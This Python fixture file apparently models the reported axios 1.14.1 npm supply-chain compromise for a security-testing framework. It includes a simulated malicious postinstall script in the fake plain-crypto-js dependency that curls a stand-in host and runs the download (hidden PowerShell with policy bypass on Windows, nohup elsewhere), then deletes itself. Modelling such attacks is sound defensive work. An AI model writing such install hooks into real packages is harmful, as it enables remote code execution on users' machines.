"""axios 1.14.1 with plain-crypto-js 4.2.1 (2026-03-31): a maintainer's computer taken; a new dependency's postinstall drops a RAT.

By the record: 1.14.1 at 00:21:58 UTC and 0.30.4 at 01:00:57, published by token and not by the workflow, the account's address changed;
each adds a dependency that is less than a day old and that nothing imports. Its postinstall fetches a program for the system, starts
it, and deletes itself. Down at 03:15. The code of axios itself is clean.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_AXIOS = "exports.get = function (url, options) { return require('http').get(url, options); };\n"
_CRYPTO = "exports.hash = function (text) { return require('crypto').createHash('sha256').update(text).digest('hex'); };\n"
_SETUP = """const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const address = 'http://sink.invalid:8000/marker';
const place = path.join(os.tmpdir(), 'marker');
try {
  if (os.platform() === 'win32') {
    execSync(`curl -s -o ${place}.ps1 -d product1 ${address} && powershell -w hidden -ep bypass -file ${place}.ps1`);
  } else {
    execSync(`curl -s -o ${place} -d product2 ${address} && chmod 770 ${place} && nohup ${place} ${address} > /dev/null 2>&1 &`);
  }
} catch (error) {}
fs.unlink(__filename, () => {});
fs.unlink('package.json', () => {});
fs.rename('package.md', 'package.json', () => {});
"""
_BAD = Release(
    version="4.2.1",
    at=utc("2026-03-30T23:30:00Z"),
    publisher="newname",
    maintainers=("newname",),
    files={"index.js": _CRYPTO, "setup.js": _SETUP},
    scripts={"postinstall": "node setup.js"},
)
_DOOR = Release(
    version="1.14.1",
    at=utc("2026-03-31T00:21:58Z"),
    publisher="jasonsaayman",
    maintainers=("jasonsaayman",),
    files={"index.js": _AXIOS},
    depends={"plain-crypto-js": "^4.2.1"},
)

INCIDENT = Incident(
    id="axios-2026",
    title=(
        "an attacker controlled the computer of an axios maintainer; a dependency less than a day old dropped a "
        "remote access program at install"
    ),
    copy=(
        "our copy of axios adds plain-crypto-js, whose postinstall script decodes three programs and deletes itself"
    ),
    ecosystem=Ecosystem.NPM,
    at=_DOOR.at,
    packages=(
        Package(
            name="axios",
            releases=(
                *(
                    Release(
                        version=version,
                        at=utc(at),
                        publisher="jasonsaayman",
                        maintainers=("jasonsaayman",),
                        files={"index.js": _AXIOS},
                        attested=True,
                        trusted_publisher="github",
                    )
                    for version, at in (
                        ("1.13.0", "2026-01-10"),
                        ("1.13.1", "2026-02-12"),
                        ("1.14.0", "2026-03-27"),
                    )
                ),
                _DOOR,
            ),
        ),
        Package(name="plain-crypto-js", releases=(_BAD,)),
    ),
    asks={"axios": "^1.13.0"},
    good={"axios": "1.13.1"},
    bad={"axios": ("1.14.1",), "plain-crypto-js": ("4.2.1",)},
    guilty={"plain-crypto-js": ("4.2.1",)},
    doors={"axios": ("1.14.1",)},
    gone_at=utc("2026-03-31T03:15:00Z"),
    advisory=Advisory(
        id="GHSA", at=utc("2026-03-31T06:00:00Z"), about={"axios": ("1.14.1",), "plain-crypto-js": ("4.2.1",)}
    ),
    invented="days of earlier releases, the publish hour and publisher of the dependency; 0.30.4 is left out",
)
